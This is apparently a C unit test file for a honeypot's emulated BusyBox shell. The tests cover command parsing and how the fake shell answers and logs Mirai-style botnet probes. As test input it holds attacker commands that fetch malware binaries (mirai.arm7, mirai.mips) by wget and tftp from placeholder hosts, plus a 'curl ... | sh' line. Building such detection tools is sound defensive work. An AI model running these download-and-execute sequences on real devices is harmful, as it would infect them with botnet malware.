/* test_shell.c - unit tests of the fake BusyBox shell: the command parser and what bots are answered. */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include <cmocka.h>

#include "core/buf.h"
#include "core/config.h"
#include "core/jsonw.h"
#include "proto/parse/shell_parse.h"
#include "proto/shell.h"

/* --- The parser. */

static struct shp_line *
parse(const char *s, size_t len)
{
	static struct shp_line	 l;

	shp_parse(&l, (const uint8_t *)s, len);
	return &l;
}
#define PARSE(s)	parse(s, strlen(s))

static void
test_parse_ops(void **state)
{
	struct shp_line	*l = PARSE("a 1; b && c || d | e > f 2>/dev/null");

	(void)state;
	assert_int_equal(l->ncmds, 5);
	assert_string_equal(l->cmds[0].argv[0], "a");
	assert_string_equal(l->cmds[0].argv[1], "1");
	assert_int_equal(l->cmds[0].op, SHP_SEQ);
	assert_int_equal(l->cmds[1].op, SHP_AND);
	assert_int_equal(l->cmds[2].op, SHP_OR);
	assert_int_equal(l->cmds[3].op, SHP_PIPE);
	assert_int_equal(l->cmds[4].op, SHP_END);
	assert_int_equal(l->cmds[4].argc, 1);
	assert_string_equal(l->cmds[4].out, "f");
	assert_int_equal(l->cmds[4].append, 0);
	assert_true(l->cmds[4].err_null);
	assert_false(l->cut);
}

static void
test_parse_quotes(void **state)
{
	struct shp_line	*l = PARSE("echo 'a b' \"c\\\"d $x\" e\\ f '' # comment; rm x");

	(void)state;
	assert_int_equal(l->ncmds, 1);
	assert_int_equal(l->cmds[0].argc, 5);
	assert_string_equal(l->cmds[0].argv[1], "a b");
	assert_string_equal(l->cmds[0].argv[2], "c\"d \001qx\002");	/* marked for the shell */
	assert_string_equal(l->cmds[0].argv[3], "e f");
	assert_string_equal(l->cmds[0].argv[4], "");
	assert_null(l->cmds[0].argv[5]);
}

static void
test_parse_redirections(void **state)
{
	struct shp_line	*l = PARSE(">dvrHelper; cat<in>>out 2>&1; echo 2>x; echo a&>/dev/null");

	(void)state;
	assert_int_equal(l->ncmds, 4);
	assert_int_equal(l->cmds[0].argc, 0);
	assert_string_equal(l->cmds[0].out, "dvrHelper");
	assert_string_equal(l->cmds[1].in, "in");
	assert_string_equal(l->cmds[1].out, "out");
	assert_true(l->cmds[1].append);
	assert_true(l->cmds[1].err_out);
	assert_int_equal(l->cmds[2].argc, 1);	/* "2" is the descriptor, not an argument */
	assert_null(l->cmds[2].out);
	assert_string_equal(l->cmds[3].out, "/dev/null");
	assert_true(l->cmds[3].err_null);
}

static void
test_parse_groups_and_nul(void **state)
{
	static const char line[] = "enable\0\r\n(cat .s || cp /bin/echo .s) && x; /bin/busybox Y";
	struct shp_line	*l = parse(line, sizeof(line) - 1);

	(void)state;
	assert_int_equal(l->ncmds, 5);
	assert_string_equal(l->cmds[0].argv[0], "enable");
	assert_int_equal(l->cmds[0].argc, 1);
	assert_int_equal(l->cmds[1].op, SHP_OR);
	assert_int_equal(l->cmds[2].op, SHP_AND);	/* the && after ')' */
	assert_string_equal(l->cmds[3].argv[0], "x");
	assert_string_equal(l->cmds[4].argv[1], "Y");
}

static void
test_parse_caps(void **state)
{
	char		 line[HNP_SHELL_MAX_LINE + 100];
	struct shp_line	*l;
	size_t		 i;

	(void)state;
	for (i = 0; i + 1 < sizeof(line); i += 2) {
		line[i] = 'a';
		line[i + 1] = ';';
	}
	l = parse(line, sizeof(line));
	assert_int_equal(l->ncmds, HNP_SHELL_MAX_CMDS);
	assert_true(l->cut);
	memset(line, 'x', sizeof(line));
	for (i = 1; i < sizeof(line); i += 2)
		line[i] = ' ';
	l = parse(line, 400);
	assert_int_equal(l->cmds[0].argc, HNP_SHELL_MAX_ARGS);
	assert_true(l->cut);
	l = PARSE("echo 'unterminated");
	assert_string_equal(l->cmds[0].argv[1], "unterminated");
}

/* --- The shell, through its callbacks. */

struct rec {
	struct buf	 out;
	int64_t		 seq, out_seq;
	int		 exited, status;
	char		 kinds[64][16];
	char		*fields[64];
	size_t		 n;
};

static int64_t
rec_event(void *arg, const char *kind, const struct jsonw *w, const void *raw, size_t len)
{
	struct rec	*r = arg;

	(void)raw; (void)len;
	assert_int_equal(jsonw_done(w), 0);
	if (r->n < 64) {
		snprintf(r->kinds[r->n], sizeof(r->kinds[0]), "%s", kind);
		r->fields[r->n] = strndup((const char *)w->b->data, w->b->len);
		r->n++;
	}
	return ++r->seq;
}

static int
rec_out(void *arg, int64_t seq, const void *p, size_t len)
{
	struct rec	*r = arg;

	assert_true(seq >= r->out_seq);	/* output never before its events */
	assert_int_equal(seq, r->seq);
	r->out_seq = seq;
	buf_append(&r->out, p, len);
	return 0;
}

static void
rec_exit(void *arg, int status)
{
	struct rec	*r = arg;

	r->exited++;
	r->status = status;
}

static struct shell_profile	 profile;
static struct rec		 rec;
static struct shell		*sh;

static int
setup(void **state)
{
	struct shell_io	 io = { &rec, rec_event, rec_out, rec_exit };
	struct config	*cfg;
	char		 err[256];

	(void)state;
	config_register(shell_config_keys);
	cfg = config_new();
	assert_int_equal(shell_profile_load(&profile, cfg, err, sizeof(err)), 0);
	config_free(cfg);
	memset(&rec, 0, sizeof(rec));
	buf_init(&rec.out, 1 << 20);
	sh = shell_new(&profile, &io, "root", 0);
	return 0;
}

static int
teardown(void **state)
{
	size_t	 i;

	(void)state;
	shell_free(sh);
	buf_free(&rec.out);
	for (i = 0; i < rec.n; i++)
		free(rec.fields[i]);
	return 0;
}

/* Runs line and returns what it printed (NUL-terminated; binary output may hold NULs). */
static const char *
run(const char *line)
{
	rec.out.len = 0;
	shell_line(sh, (const uint8_t *)line, strlen(line));
	buf_append(&rec.out, "", 1);
	return (const char *)rec.out.data;
}

static void
test_shell_prompt_and_elevation(void **state)
{
	static const char enable[] = "enable\0";

	(void)state;
	assert_string_equal(run("enable"), "-sh: enable: not found\nroot@router:~# ");
	rec.out.len = 0;
	shell_line(sh, (const uint8_t *)enable, sizeof(enable));
	assert_non_null(memmem(rec.out.data, rec.out.len, "enable: not found", 17));
	assert_string_equal(run("sh"), "root@router:~# ");
	assert_string_equal(run("/bin/busybox MIRAI"), "MIRAI: applet not found\nroot@router:~# ");
	assert_string_equal(run("exit"), "root@router:~# ");	/* back from the inner sh */
	assert_int_equal(rec.exited, 0);
	assert_string_equal(run(""), "root@router:~# ");
	assert_int_equal(rec.n, 5);	/* the empty line is no command */
	assert_string_equal(rec.kinds[0], "command");
	assert_non_null(strstr(rec.fields[0], "\"command\":\"enable\""));
	run("exit");
	assert_int_equal(rec.exited, 1);
	assert_int_equal(shell_line(sh, (const uint8_t *)"id", 2), 1);
}

static void
test_shell_mirai_loader(void **state)
{
	const char	*o;
	char		*p;

	(void)state;
	o = run("/bin/busybox cat /proc/mounts; /bin/busybox ECCHI");
	assert_non_null(strstr(o, "tmpfs /var tmpfs rw"));
	assert_non_null(strstr(o, "ECCHI: applet not found\n"));
	o = run("/bin/busybox echo -e '\\x6b\\x61\\x6d\\x69/var' > /var/.nippon; /bin/busybox cat "
	    "/var/.nippon; /bin/busybox rm /var/.nippon");
	assert_non_null(strstr(o, "kami/var\n"));
	o = run("cat /var/.nippon");
	assert_non_null(strstr(o, "No such file"));
	run("cd /var/");
	o = run("/bin/busybox cp /bin/echo dvrHelper; >dvrHelper; /bin/busybox chmod 777 dvrHelper;"
	    " /bin/busybox ECCHI");
	assert_string_equal(o, "ECCHI: applet not found\nroot@router:/var# ");
	rec.out.len = 0;
	shell_line(sh, (const uint8_t *)"/bin/busybox cat /bin/echo", 26);
	assert_true(rec.out.len > 52);
	assert_memory_equal(rec.out.data, "\x7f" "ELF\x01\x01\x01", 7);
	assert_int_equal(rec.out.data[18], 40);		/* e_machine: ARM */
	o = run("/bin/busybox wget; /bin/busybox tftp; /bin/busybox ECCHI");
	assert_null(strstr(o, "wget: applet not found"));
	assert_non_null(strstr(o, "BusyBox v1.31.1"));
	assert_non_null(strstr(o, "Usage: wget"));
	o = run("/bin/busybox wget http://192.0.2.7:8080/bins/mirai.arm7 -O - > dvrHelper; "
	    "/bin/busybox chmod 777 dvrHelper; /bin/busybox ECCHI");
	assert_non_null(strstr(o, "ECCHI: applet not found"));
	assert_string_equal(rec.kinds[rec.n - 1], "download_url");
	assert_non_null(strstr(rec.fields[rec.n - 1],
	    "\"url\":\"http://192.0.2.7:8080/bins/mirai.arm7\""));
	assert_non_null(strstr(rec.fields[rec.n - 1], "\"tool\":\"wget\""));
	run("/bin/busybox tftp -g -l dvrHelper -r mirai.mips 192.0.2.8");
	assert_non_null(p = strstr(rec.fields[rec.n - 1], "tftp://192.0.2.8"));
	assert_non_null(strstr(p, "mirai.mips"));
	assert_non_null(strstr(rec.fields[rec.n - 1], "\"host\":\"192.0.2.8\",\"file\":\"mirai.mips\""));
	run("ftpget -u a -p b -P 2121 192.0.2.9 local.sh bins/x.sh");
	assert_non_null(strstr(rec.fields[rec.n - 1], "\"host\":\"192.0.2.9:2121\",\"file\":\"bins/x.sh\""));
	o = run("./dvrHelper telnet.arm7; /bin/busybox IHCCE");
	assert_string_equal(o, "IHCCE: applet not found\nroot@router:/var# ");
	assert_null(memmem(rec.out.data, rec.out.len, "ncorrect", 8));
}

static void
test_shell_2017_script(void **state)
{
	const char	*o;

	(void)state;
	run("cd /tmp; (cat .s || cp /bin/echo .s); /bin/busybox HIVPB");
	rec.out.len = 0;
	shell_line(sh, (const uint8_t *)"(dd bs=52 count=1 if=.s || cat .s)", 34);
	assert_true(rec.out.len > 52);
	assert_memory_equal(rec.out.data, "\x7f" "ELF", 4);
	assert_memory_equal(rec.out.data + 52, "1+0 records in\n", 15);
	o = run("nc; wget; /bin/busybox HIVPB");
	assert_non_null(strstr(o, "-sh: nc: not found"));
	assert_non_null(strstr(o, "HIVPB: applet not found"));
}

static void
test_shell_applets(void **state)
{
	const char	*o;
	char		 want[64];
	size_t		 n = 0, i;

	(void)state;
	o = run("uname -a");
	assert_string_equal(o, "Linux router 3.10.14 #1 SMP PREEMPT Tue Mar 3 11:09:58 CST 2020 "
	    "armv7l GNU/Linux\nroot@router:~# ");
	assert_non_null(strstr(run("cat /proc/cpuinfo"), "ARMv7 Processor rev 5 (v7l)"));
	assert_string_equal(run("which wget"), "/bin/wget\nroot@router:~# ");
	assert_string_equal(run("which curl || echo no"), "no\nroot@router:~# ");
	assert_string_equal(run("false && echo a || echo b"), "b\nroot@router:~# ");
	assert_string_equal(run("true || echo a && echo b"), "b\nroot@router:~# ");
	assert_string_equal(run("echo -n hi; echo -ne '\\x41\\0102\\n'"), "hiAB\nroot@router:~# ");
	assert_string_equal(run("echo abc > /tmp/f; echo def >> /tmp/f; cat /tmp/f | wc -l"),
	    "2\nroot@router:~# ");
	assert_string_equal(run("cat /tmp/f | grep de"), "def\nroot@router:~# ");
	assert_string_equal(run("sh -c 'echo in; /bin/busybox Z'"),
	    "in\nZ: applet not found\nroot@router:~# ");
	assert_string_equal(run("curl http://192.0.2.1/x.sh | sh"),
	    "-sh: curl: not found\nroot@router:~# ");
	assert_string_equal(rec.kinds[rec.n - 1], "download_url");
	assert_string_equal(run("echo x > /proc/x"),
	    "-sh: can't create /proc/x: Permission denied\nroot@router:~# ");
	assert_string_equal(run("echo x > x; mkdir /y || echo no"),
	    "-sh: can't create x: Read-only file system\nmkdir: can't create directory '/y': "
	    "Read-only file system\nno\nroot@router:~# ");
	assert_string_equal(run("ls /nope 2>/dev/null; echo $?; echo $?"), "1\n0\nroot@router:~# ");
	assert_string_equal(run("X=hello; echo $X \"$X\" '$X' ${X}!"),
	    "hello hello $X hello!\nroot@router:~# ");
	assert_string_equal(run("echo $UNSET a; echo \"$UNSET\" b; echo $ $1x"),
	    "a\n b\n$ x\nroot@router:~# ");
	assert_string_equal(run("export P=/tmp; cd $P && pwd; echo $HOME $USER $PWD; cd"),
	    "/tmp\n/root root /tmp\nroot@router:~# ");
	/* a prefix assignment is only for its command (expanded before it): A stays unset */
	assert_string_equal(run("A=1 echo $A; echo x > $HOME/../tmp/v$A; cat /tmp/v"),
	    "\nx\nroot@router:~# ");
	assert_string_equal(run("ls /nope 2>/dev/null; ls /nope"),
	    "ls: /nope: No such file or directory\nroot@router:~# ");
	o = run("busybox --list");
	for (i = 0; o[i] != '\0'; i++)
		n += o[i] == '\n';
	snprintf(want, sizeof(want), "%zu\nroot@router:~# ", n);
	assert_string_equal(run("busybox --list | wc -l"), want);
	assert_true(n > 30);
}

static void
test_shell_exec_crlf_and_caps(void **state)
{
	struct shell_io	 io = { &rec, rec_event, rec_out, rec_exit };
	struct shell	*e;
	char		 line[HNP_SHELL_MAX_LINE * 2];
	size_t		 i;

	(void)state;
	e = shell_new(&profile, &io, "admin", SHELL_CRLF);
	rec.out.len = 0;
	assert_int_equal(shell_exec(e, (const uint8_t *)"id; exit 3", 10), 3);
	assert_int_equal(rec.out.len, strlen("uid=1000(admin) gid=1000(users)\r\n"));
	assert_memory_equal(rec.out.data, "uid=1000(admin) gid=1000(users)\r\n", rec.out.len);
	assert_int_equal(rec.status, 3);
	shell_free(e);

	e = shell_new(&profile, &io, "root", 0);
	memset(line, 'a', sizeof(line));	/* an over-long line is recorded cut, and answered */
	shell_line(e, (const uint8_t *)line, sizeof(line));
	assert_non_null(strstr(rec.fields[rec.n - 1], "\"cut\":true"));
	for (i = 0; i < HNP_SHELL_MAX_LINES + 1 && rec.exited < 2; i++)
		shell_line(e, (const uint8_t *)"id", 2);
	assert_int_equal(rec.exited, 2);		/* the command cap ends the shell */
	shell_free(e);
}

int
main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_parse_ops),
		cmocka_unit_test(test_parse_quotes),
		cmocka_unit_test(test_parse_redirections),
		cmocka_unit_test(test_parse_groups_and_nul),
		cmocka_unit_test(test_parse_caps),
		cmocka_unit_test_setup_teardown(test_shell_prompt_and_elevation, setup, teardown),
		cmocka_unit_test_setup_teardown(test_shell_mirai_loader, setup, teardown),
		cmocka_unit_test_setup_teardown(test_shell_2017_script, setup, teardown),
		cmocka_unit_test_setup_teardown(test_shell_applets, setup, teardown),
		cmocka_unit_test_setup_teardown(test_shell_exec_crlf_and_caps, setup, teardown),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
